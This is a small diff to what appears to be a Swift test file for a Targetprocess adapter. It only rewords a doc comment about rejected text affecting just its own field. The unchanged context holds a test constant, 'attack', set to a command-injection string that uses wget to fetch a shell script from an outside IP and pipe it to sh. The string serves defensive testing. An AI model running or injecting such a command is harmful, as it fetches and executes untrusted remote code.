@@ -7,8 +7,7 @@ import Testing
 
 @testable import TargetprocessAdapter
 
-/// A text that something in front of Targetprocess, or Targetprocess itself, does not let through costs no more than
-/// itself.
+/// A text that Targetprocess or a proxy in front of it rejects affects only its own field.
 struct FailureScopeTests {
     private static let attack = "; wget http://198.51.100.7/x.sh | sh"
     private static let forms = [
